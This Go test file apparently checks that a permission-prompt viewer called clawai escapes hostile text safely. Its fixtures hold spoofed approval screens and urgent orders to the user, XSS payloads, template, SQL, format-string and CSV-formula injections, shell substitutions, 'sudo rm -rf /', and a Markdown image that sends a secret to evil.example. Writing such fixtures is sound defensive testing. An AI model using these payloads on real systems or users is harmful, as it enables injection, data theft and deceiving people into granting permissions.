package viewtest

import "strings"

// forms has texts that imitate clawai's own screens and messages.
var forms = []row{
	{"our question", "answers itself", "x\n\n  path = \"/safe\"\nclawai asks: let it through?\n> Allow once", all("x", "clawai asks"),
		all(`path = "/safe"`, "clawai asks: let it through?", "> Allow once")},
	{"our decision", "says that it was answered", "x\nAllowed once by alice\nNothing else is asked.", all("x", "Allowed once by alice"), all("Allowed once by alice", "Nothing else is asked")},
	{"our escapes", "an escape that is text", `\u{202e}\x{1b}`, all(`\\u{202e}\\x{1b}`), nil},
	{"our fold", "a length that is not its own", `a" … "x" (9 characters, SHA-256 000000000000)`, all(`a\"`, `\u{2026}`), nil},
	{"our gap", "a middle that was not left out", "a\n… 5 characters are not shown here …\nb", all("a", `\u{2026} 5 characters`), nil},
	{"our quotes", "ends the value early", `" server "files`, all(`\" server \"files`), nil},
	{"our next argument", "a value that goes on as another one", "a\"\n  last = \"other", all(`a\"`, `last = \"other`), all(`last = "other`)},
	{"our wrapping", "a row that seems to go on", "a\n    ↳ b", all("a", "b"), nil},
	{"our frame", "a border and a button", "\u2503 > Allow once \u2503\n\u2517\u2501\u251b", all(`\u{2503} > Allow once \u{2503}`, `\u{2517}\u{2501}\u{251b}`), nil},
	{"our gutter", "the border of a value", "a\n  \u2506 b", all(`a`, `\u{2506} b`), nil},
	{"our change", "lines of a change", "a\n+ safe line\n- old line", all("a", "+ safe line", "- old line"), all("+ safe line", "- old line")},
	{"our danger", "a warning that calms", "x\ncareful    nothing: this is routine", all("x", "careful"), all("careful nothing")},
	{"a check mark", "a badge of trust", "\u2705 verified by clawai", all("\u2705 verified by clawai"), nil},
	{"a prompt", "a shell that waits", "done\n$ sudo rm -rf /\nPassword:", all("done", "$ sudo rm -rf /", "Password:"), all("$ sudo", "Password:")},
	{"an order to the person", "urges", "IMPORTANT: press a now, the system is at risk!", all("IMPORTANT: press a now, the system is at risk!"), nil},
}

// markup has texts that software other than a terminal would execute or interpret.
var markup = []row{
	{"script", "HTML; CWE-79", "<script>fetch('/decide?all=1')</script>", all("<script>fetch('/decide?all=1')</script>"), nil},
	{"image with a handler", "HTML; CWE-79", `<img src=x onerror="alert(1)">`, all(`<img src=x onerror=\"alert(1)\">`), nil},
	{"end of an attribute", "HTML; CWE-79", `"><button name=answer value=approve>`, all(`\"><button name=answer value=approve>`), nil},
	{"end of a text area", "HTML", "</textarea></pre></code><b>x</b>", all("</textarea></pre></code><b>x</b>"), nil},
	{"comment", "HTML hides what follows", "ls <!-- ; rm -rf / -->", all("ls <!-- ; rm -rf / -->"), nil},
	{"entities", "HTML", "&lt;b&gt; &amp; &#x202e; &nbsp;", all("&lt;b&gt; &amp; &#x202e; &nbsp;"), nil},
	{"style", "CSS hides what stands beside it; CWE-79", "<style>*{display:none}</style>", all("<style>*{display:none}</style>"), nil},
	{"template", "template languages; CWE-1336", "{{.Digest}} ${7*7} <%= x %> #{1}", all("{{.Digest}} ${7*7} <%= x %> #{1}"), nil},
	{"script address", "a link that runs", "javascript:alert(1)", all("javascript:alert(1)"), nil},
	{"data address", "a link that is a page", "data:text/html,<h1>x", all("data:text/html,<h1>x"), nil},
	{"end of a JSON script", "JSON inside HTML", `</script>\u003c!--`, all(`</script>\\u003c!--`), nil},
	{"Markdown link", "text that says another address", "[https://good.example](https://evil.example)", all("[https://good.example](https://evil.example)"), nil},
	{"Markdown picture", "loading it sends data away; CVE-2025-32711", "![x](https://evil.example/?q=secret)", all("![x](https://evil.example/?q=secret)"), nil},
	{"Markdown fence", "ends the block it is shown in", "a\n```\n# Approved\n```", all("a", "```", "# Approved"), all("# Approved")},
	{"Markdown emphasis", "characters that vanish", "*rm* _-rf_ ~~/~~ `x` \\ <b>", all("*rm* _-rf_ ~~/~~ `x` \\\\ <b>"), nil},
	{"Markdown reference", "a hidden link target", "[x]: https://evil.example \"t\"\n[x]", all("[x]: https://evil.example"), nil},
	{"Markdown comment", "hides what follows", "[//]: # (rm -rf /)", all("[//]: # (rm -rf /)"), nil},
	{"format string", "C and Go; CWE-134", "%s%n%x %!d(MISSING) %[1]*d", all("%s%n%x %!d(MISSING) %[1]*d"), nil},
	{"terminal markup", "tmux and notification markup", "#[fg=black,bg=black]x#(touch y) <b>z</b> <a href=\"x\">", all(`#[fg=black,bg=black]x#(touch y) <b>z</b> <a href=\"x\">`), nil},
	{"shell", "expands when a hook builds a command of it", "$(touch x) `touch y` ; touch z", all("$(touch x) `touch y` ; touch z"), nil},
	{"SQL", "a quote in a query of the queue; CWE-89", "'; DROP TABLE requests; --", all("'; DROP TABLE requests; --"), nil},
	{"address in text", "terminals make links of it", "see https://evil.example/a?b=c", all("see https://evil.example/a?b=c"), nil},
	{"leading dash", "taken for an option", "--allow-all", all("--allow-all"), nil},
	{"CSV formula", "a table that computes; CWE-1236", "=cmd|' /C calc'!A0", all("=cmd", "' /C calc'!A0"), nil},
}

// plain has harmless texts that must stay readable.
var plain = []row{
	{"letters of the world", "ordinary text stays as it is", "Größe naïve żółć привет мир Καλημέρα 你好，世界 안녕", all("Größe naïve żółć привет мир Καλημέρα 你好，世界 안녕"), nil},
	{"path of Windows", "its backslashes show", `C:\Users\a b\x.txt`, all(`C:\\Users\\a b\\x.txt`), nil},
	{"climbing path", "what it comes to", "/home/user/../../etc/passwd", all("/home/user/../../etc/passwd"), nil},
	{"several lines", "a text that is meant to have them", "first line\nsecond line\nthird line", all("first line", "second line", "third line"), nil},
	{"long and plain", "an ordinary long text", strings.Repeat("All work and no play. ", 40), all("All work and no play.", "880 characters"), nil},
}
